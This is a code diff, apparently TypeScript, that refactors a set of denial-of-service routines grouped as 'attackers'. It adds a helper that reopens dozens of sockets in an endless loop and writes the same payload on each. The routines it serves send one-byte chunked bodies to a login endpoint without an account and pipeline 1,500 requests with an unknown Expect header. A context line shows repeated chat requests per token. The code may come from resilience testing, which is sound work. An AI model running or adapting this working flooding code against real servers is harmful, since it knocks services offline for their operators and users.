@@ -135,30 +135,25 @@ const waitForModel: Attack = async ({ server, tokens }) => {
   for (const token of tokens) for (let n = 0; n < 8; n++) void chatAgain(server, token, 'application/json')
 }
 
+/** Opens connections again and again, and sends the same on each. */
+async function sendAgain(server: string, connections: number, everyMs: number, data: string): Promise<never> {
+  for (;;) {
+    for (const socket of await openSockets(server, connections)) socket.write(data)
+    await wait(everyMs)
+  }
+}
+
 /** Bodies in chunks of one byte, on as many connections as one address may have, by somebody without an account. */
 const sendCrumbs: Attack = async ({ server }) => {
   const start = 'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n'
   const crumbs = '1\r\nx\r\n'.repeat(10_000)
-  const again = async (): Promise<never> => {
-    for (;;) {
-      for (const socket of await openSockets(server, 60))
-        socket.resume().write(`${start}Transfer-Encoding: chunked\r\n\r\n${crumbs}`)
-      await wait(500)
-    }
-  }
-  void again()
+  void sendAgain(server, 60, 500, `${start}Transfer-Encoding: chunked\r\n\r\n${crumbs}`)
 }
 
 /** Many calls in one packet that expect something no server knows. */
 const expectUnknown: Attack = async ({ server }) => {
   const calls = 'GET /api/v1/moods HTTP/1.1\r\nHost: x\r\nExpect: more\r\n\r\n'.repeat(1_500)
-  const again = async (): Promise<never> => {
-    for (;;) {
-      for (const socket of await openSockets(server, 190)) socket.pause().write(calls)
-      await wait(1_000)
-    }
-  }
-  void again()
+  void sendAgain(server, 190, 1_000, calls)
 }
 
 const attackers = {
